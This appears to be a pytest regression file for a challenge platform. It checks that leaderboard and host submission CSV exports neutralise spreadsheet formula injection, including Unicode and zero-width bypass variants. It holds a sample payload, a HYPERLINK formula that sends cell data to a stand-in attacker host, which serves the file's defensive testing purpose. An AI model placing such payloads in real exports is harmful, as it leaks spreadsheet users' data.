"""Finding 3: the leaderboard CSV wrote team and method names raw, so `=HYPERLINK(...)`
came out as a formula. Every CSV now goes through one writer (challenges.csv_safe)."""

from __future__ import annotations

import csv
import io

import pytest

from challenges.csv_safe import csv_safe_cell, csv_writer
from challenges.models import ParticipantTeam, Submission

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_it_neutralises_every_formula_prefix(prefix):
    out = io.StringIO()
    csv_writer(out).writerow([f"{prefix}1+1", "plain", -0.5, 3, None])
    (row,) = csv.reader(io.StringIO(out.getvalue()))
    assert row == [f"'{prefix}1+1", "plain", "-0.5", "3", ""]
    assert csv_safe_cell(f"{prefix}x") == f"'{prefix}x"


@pytest.mark.parametrize(
    "cell",
    [
        " =1+1",
        "   @SUM(A1)",
        "\n=1+1",
        "\r\n+1",
        "\t-1",
        "\uff1d1+1",  # full-width =
        "\uff0b1",  # full-width +
        "\uff0d1",  # full-width -
        "\uff20SUM(A1)",  # full-width @
        "\u200b=1+1",  # zero-width space
        "\ufeff=1+1",  # byte-order mark
        "\u200d\u2060 =1",  # zero-width joiner, word joiner, space
        "\u3000=1",  # ideographic space
        "\u00a0=1",  # no-break space
        "\u2212" + "1",  # minus sign
    ],
)
def test_it_neutralises_formulas_behind_spaces_breaks_full_width_and_zero_width(cell):
    assert csv_safe_cell(cell) == "'" + cell
    out = io.StringIO()
    csv_writer(out).writerow([cell])
    (row,) = csv.reader(io.StringIO(out.getvalue()))
    assert row == ["'" + cell]


@pytest.mark.parametrize("cell", ["team = best", " plain", "\u200bname", "a-b", "", "   "])
def test_it_leaves_text_that_is_no_formula_alone(cell):
    assert csv_safe_cell(cell) == cell


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_it_writes_the_leaderboard_csv_without_formulas(world, api):
    ParticipantTeam.objects.filter(pk=world.charlie_team.pk).update(name=EVIL)
    Submission.objects.filter(pk=world.charlie_sub.pk).update(method_name="@SUM(A1:A9)")
    from challenges.services.leaderboard_refresh import leaderboard_refresh_team

    leaderboard_refresh_team(phase=world.charlie_sub.phase, team_id=world.charlie_team.pk)
    url = f"/api/v1/challenges/{world.challenge.pk}/phases/test/splits/public/leaderboard.csv"
    response = api("alice").get(url)
    assert response.status_code == 200
    cells = [cell for row in _rows(response) for cell in row]
    assert "'" + EVIL in cells and "'@SUM(A1:A9)" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]


def test_it_writes_the_host_submissions_csv_without_formulas(world, client_as):
    ParticipantTeam.objects.filter(pk=world.charlie_team.pk).update(name=EVIL)
    response = client_as("host").get(
        f"/host/challenges/{world.challenge.pk}/submissions/?format=csv"
    )
    cells = [cell for row in _rows(response) for cell in row]
    assert "'" + EVIL in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
